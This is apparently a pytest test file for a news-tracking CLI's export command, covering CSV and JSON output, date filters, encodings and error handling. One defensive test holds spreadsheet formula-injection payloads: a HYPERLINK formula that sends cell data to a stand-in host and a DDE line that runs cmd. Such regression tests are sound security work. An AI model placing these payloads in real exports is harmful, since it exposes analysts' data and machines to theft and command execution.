"""`stiwatch export`: items with their tags as CSV or JSON Lines, to stdout or a file."""

from __future__ import annotations

import csv
import io
import json

import pytest

import analysts_store
import db


@pytest.fixture
def ids(db_path):
    return analysts_store.build(db_path)


def test_jsonl_to_stdout_has_every_item_with_tags(stiwatch, ids):
    result = stiwatch("export", "--format", "jsonl")
    assert result.exit_code == 0
    rows = [json.loads(line) for line in result.output.splitlines()]
    assert [r["id"] for r in rows] == sorted(ids.values())
    quantum = next(r for r in rows if r["id"] == ids["jp-quantum"])
    assert quantum["title"] == "Japan launches national quantum strategy"
    assert quantum["source_name"] == "MEXT News" and quantum["policy"] == 1
    assert quantum["policy_score"] == 0.9  # the probability behind the verdict, as stored
    assert quantum["areas"] == ["governance"] and quantum["domains"] == ["quantum"]
    assert quantum["countries"] == ["JP"] and quantum["regions"] == ["east_asia"]
    assert "quantum computing centres" in quantum["body"]
    copy = next(r for r in rows if r["id"] == ids["eu-open-copy"])
    assert copy["duplicate_of"] == ids["eu-open"]


def test_one_item_exported_is_said_in_the_singular(stiwatch, db_path, tmp_path):
    with db.open_store(db_path) as store:
        store.sync_sources(analysts_store.SOURCES[:1])
        store.save_items([{"url": "https://mext-news.example/one", "source_id": "mext-news",
                           "title": "Budget", "body": "The budget was announced."}])
    out = tmp_path / "one.jsonl"
    result = stiwatch("export", "--format", "jsonl", "--out", str(out))
    assert result.exit_code == 0, result.output
    assert f"Exported 1 item to {out}." in result.output  # not "1 item(s)"


def test_csv_to_a_file_with_since(stiwatch, ids, tmp_path):
    out = tmp_path / "items.csv"
    since = analysts_store.ago(15)[:10]
    result = stiwatch("export", "--format", "csv", "--since", since, "--out", str(out))
    assert result.exit_code == 0
    assert f"Exported 5 items to {out}." in result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert {int(r["id"]) for r in rows} == {ids[k] for k in ("jp-quantum", "us-security",
                                                              "eu-open", "eu-open-copy",
                                                              "us-discovery")}
    security = next(r for r in rows if int(r["id"]) == ids["us-security"])
    assert security["countries"] == "CN,US" and security["areas"] == "research_security"
    assert (security["policy"], security["policy_score"]) == ("1", "0.9")
    assert not list(tmp_path.glob(".items.csv.*"))  # no temporary file left behind


@pytest.mark.parametrize("env, since, expected", [
    ({}, "2026-11-18", ["tokyo-18", "midnight-23", "at-0617", "after-0617"]),  # Asia/Tokyo
    ({"STIWATCH_TIMEZONE": "UTC"}, "2026-11-18", ["midnight-23", "at-0617", "after-0617"]),
    ({}, "2026-11-23T06:17:00Z", ["at-0617", "after-0617"]),
    ({}, "2026-11-23T06:17:00+00:00", ["at-0617", "after-0617"]),
])
def test_since_is_a_day_in_the_timezone_setting(stiwatch, db_path, env, since, expected):
    ids = analysts_store.build_dated(db_path)
    result = stiwatch("export", "--format", "jsonl", "--since", since, env=env)
    assert result.exit_code == 0, result.output
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert [row["id"] for row in rows] == [ids[key] for key in expected]
    published = dict(analysts_store.DATED)
    assert [row["published_at"] for row in rows] == [published[key] for key in expected]


def test_export_streams_in_batches(db_path):
    """More items than one batch: all come out, in order, each with its own tags."""
    import db

    with db.open_store(db_path) as store:
        store.sync_sources(analysts_store.SOURCES[:1])
        saved = store.save_items([{"url": f"https://m.example/{n}", "source_id": "mext-news",
                                   "title": f"item {n}"} for n in range(2500)])
        store.save_classifications(
            [(item_id, [{"facet": "country", "value": "JP", "score": 1.0, "method": "source"}])
             for item_id, _ in saved if item_id % 2], "t")
        rows = list(store.iter_export(batch=1000))
    assert len(rows) == 2500 and [r["id"] for r in rows] == sorted(r["id"] for r in rows)
    assert all(r["countries"] == (["JP"] if r["id"] % 2 else []) for r in rows)


def test_bad_arguments(stiwatch, ids, tmp_path):
    result = stiwatch("export", "--format", "jsonl", "--since", "yesterday")
    assert result.exit_code == 2 and "is not a date" in result.output
    result = stiwatch("export", "--format", "csv", "--since", "2026-99-99")
    assert result.exit_code == 2 and result.stdout == ""
    assert result.stderr.endswith(
        "Error: Invalid value for '--since': '2026-99-99' is not a date (expected YYYY-MM-DD, "
        "or 7d, 2w: that many days or weeks before now)\n")
    result = stiwatch("export", "--format", "csv", "--out", str(tmp_path / "no" / "x.csv"))
    assert result.exit_code == 2 and "no such folder" in result.output
    assert not (tmp_path / "no").exists()
    (tmp_path / "afile").write_text("keep me\n")
    result = stiwatch("export", "--format", "csv", "--out", str(tmp_path / "afile" / "x.csv"))
    assert result.exit_code == 2
    assert result.output.splitlines() == [
        f"Error: --out {tmp_path}/afile/x.csv: {tmp_path}/afile is a file, not a folder"]
    assert (tmp_path / "afile").read_text() == "keep me\n"
    result = stiwatch("export", "--format", "xml")
    assert result.exit_code == 2
    result = stiwatch("export")
    assert result.exit_code == 2
    assert result.stderr.endswith(
        "Error: Missing option '--format': csv, jsonl or json (or --json)\n")
    result = stiwatch("export", "--format", "csv", "--json")
    assert result.exit_code == 2 and "--json and --format csv ask for two formats" in result.output


def test_json_is_format_json_as_on_the_other_commands(stiwatch, ids):
    # `export --json` answered "No such option '--json'. Did you mean '--since'?"
    result = stiwatch("export", "--json")
    assert result.exit_code == 0, result.output
    assert result.stdout == stiwatch("export", "--format", "json").stdout
    assert len(json.loads(result.stdout)) == len(ids)


def test_an_output_never_replaces_a_database(stiwatch, ids, db_path, tmp_path):
    """A shell completes `--out stiwatch.` to the store itself: refused, the store untouched."""
    other = tmp_path / "copy.db"
    other.write_bytes(db_path.read_bytes())
    before = db_path.read_bytes()
    for args, target, what in [
        (("export", "--format", "csv", "--out"), db_path, "an SQLite database"),
        (("export", "--format", "jsonl", "--out"), f"{db_path}-wal",
         f"a file of the database {db_path}"),
        (("trends", "--chart"), other, "an SQLite database"),
    ]:
        result = stiwatch(*args, str(target))
        assert result.exit_code == 2, result.output
        option = args[-1]
        assert result.output.splitlines() == [
            f"Error: {option} {target}: that is {what}; it is never replaced by this output "
            "(give another file name)"]
    assert db_path.read_bytes() == before and other.read_bytes() == before
    assert stiwatch("status").exit_code == 0
    # A name that only ends like such a file, with no database beside it, is an output.
    plain = tmp_path / "press-journal"
    result = stiwatch("export", "--format", "csv", "--out", str(plain))
    assert result.exit_code == 0, result.output
    assert plain.read_text(encoding="utf-8").startswith("id,")


def test_a_file_that_cannot_be_written_is_one_error(stiwatch, ids, tmp_path):
    # a name the file system takes, but not with the temporary file's prefix and suffix
    out = tmp_path / ("x" * 246 + ".csv")
    result = stiwatch("export", "--format", "csv", "--out", str(out))
    assert result.exit_code == 2
    assert result.output.splitlines() == [f"Error: --out {out}: cannot write: File name too long"]
    too_long = tmp_path / ("x" * 300 + ".csv")
    result = stiwatch("export", "--format", "csv", "--out", str(too_long))
    assert result.exit_code == 2
    assert result.output.splitlines() == [f"Error: --out {too_long}: File name too long"]
    assert not [path for path in tmp_path.iterdir() if path.name.startswith(("x", ".x"))]


def test_an_exported_file_follows_the_umask(stiwatch, ids, tmp_path):
    """A shared export must be readable by the colleagues it is for (not mkstemp's 0600)."""
    import os

    out = tmp_path / "items.csv"
    out.write_text("old\n")
    out.chmod(0o600)
    previous = os.umask(0o022)
    try:
        assert stiwatch("export", "--format", "csv", "--out", str(out)).exit_code == 0
    finally:
        os.umask(previous)
    assert out.stat().st_mode & 0o777 == 0o644
    assert out.read_text(encoding="utf-8").startswith("id,url,")


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(stiwatch, db_path, tmp_path):
    # A crawled title or summary starting with = + - @ was written as is: Excel runs it as a
    # formula when an analyst opens the export (HYPERLINK exfiltration, DDE).
    import db
    analysts_store.build(db_path)
    title = '=HYPERLINK("http://evil.example/?"&A1, "Read more")'
    with db.open_store(db_path) as store:
        [(item_id, _)] = store.save_items([{
            "url": "https://mext-news.example/formula", "source_id": "mext-news",
            "title": title, "summary": "@SUM(1+1)*cmd|' /C calc'!A0", "body": "-2+3 budget",
            "published_at": analysts_store.ago(1), "date_source": "feed", "language": "en"}])
    out = tmp_path / "items.csv"
    assert stiwatch("export", "--format", "csv", "--out", str(out)).exit_code == 0
    row = next(r for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))
               if int(r["id"]) == item_id)
    assert row["title"] == "'" + title
    assert row["summary"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["body"] == "'-2+3 budget"
    assert row["policy_score"] == ""  # numbers and empty cells untouched
    # JSON Lines is data for programs: kept exactly as crawled.
    jsonl = stiwatch("export", "--format", "jsonl").output.splitlines()
    assert json.loads(next(line for line in jsonl if f'"id": {item_id},' in line))["title"] == title
    # `stiwatch search --format csv` is opened in spreadsheets too.
    found = stiwatch("search", "HYPERLINK", "--format", "csv")
    assert found.exit_code == 0, found.output
    [hit] = list(csv.DictReader(io.StringIO(found.output)))
    assert hit["title"] == "'" + title


def test_export_says_which_tags_an_analyst_set_and_why_a_page_failed(stiwatch, ids, db_path):
    """Analysts exporting to review the classifier need to tell their own corrections from
    the classifier's, and an operator why a page was never read."""
    import db

    quantum = ids["jp-quantum"]
    assert stiwatch("tag", str(quantum), "--add", "area=open_science",
                    "--add", "country=KR").exit_code == 0
    with db.open_store(db_path) as store:
        store.save_items([{"url": "https://gone.example/x", "source_id": "mext-news",
                           "title": "Gone", "status": "partial",
                           "fetch_error": "HTTP 404 Not Found"}])
    rows = [json.loads(line) for line in stiwatch("export", "--format", "jsonl").output
            .splitlines()]
    row = next(r for r in rows if r["id"] == quantum)
    assert row["analyst_tags"] == ["area=open_science", "country=KR", "region=east_asia"]
    assert row["classified_at"] is not None and row["fetch_error"] is None
    gone = next(r for r in rows if r["title"] == "Gone")
    assert (gone["status"], gone["fetch_error"], gone["analyst_tags"]) == (
        "partial", "HTTP 404 Not Found", [])
    table = list(csv.DictReader(io.StringIO(stiwatch("export", "--format", "csv").output)))
    assert next(r for r in table if int(r["id"]) == quantum)["analyst_tags"] == \
        "area=open_science,country=KR,region=east_asia"


def run_stiwatch(db_path, *args, env=None):
    """`stiwatch ARGS` as a real process, stdout a pipe: its bytes as written."""
    import os
    import subprocess
    import sys

    return subprocess.run([sys.executable, "-m", "stiwatch", "--db", str(db_path), *args],
                          capture_output=True, timeout=60, env={**os.environ, **(env or {})})


def test_csv_for_excel_starts_with_a_utf8_bom_only_when_asked(db_path, ids, tmp_path):
    """Excel on Windows reads a CSV without a BOM as Shift_JIS and garbles Japanese: --bom
    (or the csv_bom setting) writes one; pipes stay BOM-free by default."""
    import db

    bom = b"\xef\xbb\xbf"
    with db.open_store(db_path) as store:
        store.save_items([{"url": "https://mext-news.example/ja", "source_id": "mext-news",
                           "title": "量子技術の研究開発を推進"}])
    plain = run_stiwatch(db_path, "export", "--format", "csv")
    assert plain.returncode == 0 and plain.stdout.startswith(b"id,url,")
    marked = run_stiwatch(db_path, "export", "--format", "csv", "--bom")
    assert marked.returncode == 0 and marked.stdout == bom + plain.stdout
    assert "量子技術の研究開発を推進".encode() in marked.stdout
    out = tmp_path / "items.csv"
    assert run_stiwatch(db_path, "export", "--format", "csv", "--bom", "--out",
                        str(out)).returncode == 0
    assert out.read_bytes() == bom + plain.stdout
    # Excel's reading: the BOM says UTF-8, and the first header is "id", not "\ufeffid".
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    assert "量子技術の研究開発を推進" in {row["title"] for row in rows}
    # The setting, as data: on for CSV, --no-bom overrides it, JSON Lines never gets one.
    setting = {"STIWATCH_CSV_BOM": "true"}
    assert run_stiwatch(db_path, "export", "--format", "csv", env=setting).stdout.startswith(bom)
    assert not run_stiwatch(db_path, "export", "--format", "csv", "--no-bom",
                            env=setting).stdout.startswith(bom)
    assert run_stiwatch(db_path, "export", "--format", "jsonl",
                        env=setting).stdout.startswith(b'{"id"')
    for args in (("search", "研究", "--format", "csv"), ("trends", "--format", "csv")):
        assert not run_stiwatch(db_path, *args).stdout.startswith(bom), args
        result = run_stiwatch(db_path, *args, "--bom")
        assert result.returncode == 0 and result.stdout.startswith(bom), args
    # On Windows, stdout redirected to a file is the ANSI code page: the BOM promises UTF-8.
    result = run_stiwatch(db_path, "export", "--format", "csv", "--bom",
                          env={"PYTHONIOENCODING": "cp1252"})
    assert result.returncode == 0 and result.stdout == bom + plain.stdout
    # --bom with a format that is not CSV is a mistake said in one line.
    result = run_stiwatch(db_path, "export", "--format", "jsonl", "--bom")
    assert result.returncode == 2 and result.stdout == b""
    assert result.stderr.decode().splitlines()[-1] == (
        "Error: --bom applies to --format csv only, not jsonl")


def test_machine_output_is_utf8_whatever_the_locale(db_path, ids):
    """On Windows, stdout redirected to a file is the ANSI code page (cp932 on Japanese
    Windows): a Korean title made `export > items.csv` stop half-way with a traceback."""
    import db

    with db.open_store(db_path) as store:
        store.save_items([{"url": "https://mext-news.example/ko", "source_id": "mext-news",
                           "title": "연구 정책 量子技術 quantum"}])
    cp932 = {"PYTHONIOENCODING": "cp932"}
    for args in (("export", "--format", "csv"), ("export", "--format", "jsonl"),
                 ("search", "quantum", "--format", "csv"),
                 ("search", "quantum", "--format", "json")):
        result = run_stiwatch(db_path, *args, env=cp932)
        assert result.returncode == 0, (args, result.stderr.decode(errors="replace")[-300:])
        assert "연구 정책 量子技術 quantum" in result.stdout.decode("utf-8"), args
        assert result.stdout == run_stiwatch(db_path, *args).stdout, args


@pytest.mark.skipif(not __import__("os").path.exists("/dev/full"), reason="needs /dev/full")
@pytest.mark.parametrize("command", [["export", "--format", "csv"],
                                     ["search", "quantum", "--format", "json"]])
def test_a_full_disk_under_stdout_is_one_error_line(db_path, ids, command):
    """`stiwatch export --format csv > /mnt/full/items.csv` on a disk that fills: one line
    naming standard output, not a traceback of the CSV writer."""
    import subprocess
    import sys

    with open("/dev/full", "w") as full:
        done = subprocess.run([sys.executable, "-m", "stiwatch", "--db", str(db_path), *command],
                              stdout=full, stderr=subprocess.PIPE, text=True, timeout=60)
    assert done.returncode == 2
    assert done.stderr.splitlines() == [
        "Error: standard output: cannot write: No space left on device"]


def test_an_output_interrupted_half_way_leaves_the_old_file_and_no_temporary_one(tmp_path):
    """Ctrl-C (or SIGTERM) during an export: the file named by --out keeps its old content
    whole and nothing is left beside it (a `.items.csv.<pid>.tmp` would pile up at each
    interrupted cron run)."""
    from stiwatch.files import replacing

    (tmp_path / "exports").mkdir()
    out = tmp_path / "exports" / "items.csv"
    out.write_text("old export\n")
    with pytest.raises(KeyboardInterrupt):
        with replacing(out, "--out") as stream:
            stream.write("id,title\n1,half")
            raise KeyboardInterrupt
    assert out.read_text() == "old export\n"
    assert [path.name for path in out.parent.iterdir()] == ["items.csv"]


def test_since_takes_a_number_of_days_back(stiwatch, ids):
    result = stiwatch("export", "--format", "jsonl", "--since", "5d")
    assert result.exit_code == 0, result.output
    assert {json.loads(line)["id"] for line in result.output.splitlines()} == {
        ids["jp-quantum"], ids["us-security"], ids["eu-open"], ids["eu-open-copy"]}


def test_json_is_one_array_of_the_jsonl_objects(stiwatch, ids, tmp_path):
    # search and trends print --format json; export refused it ("'json' is not one of 'csv',
    # 'jsonl'"), where jq, pandas.read_json or a browser want one document.
    lines = stiwatch("export", "--format", "jsonl").output.splitlines()
    result = stiwatch("export", "--format", "json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout) == [json.loads(line) for line in lines]
    assert len(lines) == len(ids)
    out = tmp_path / "items.json"
    assert stiwatch("export", "--format", "json", "--out", str(out)).exit_code == 0
    assert json.loads(out.read_text(encoding="utf-8")) == json.loads(result.stdout)
    none = stiwatch("export", "--format", "json", "--since", "2999-01-01")
    assert none.exit_code == 0 and json.loads(none.stdout) == []
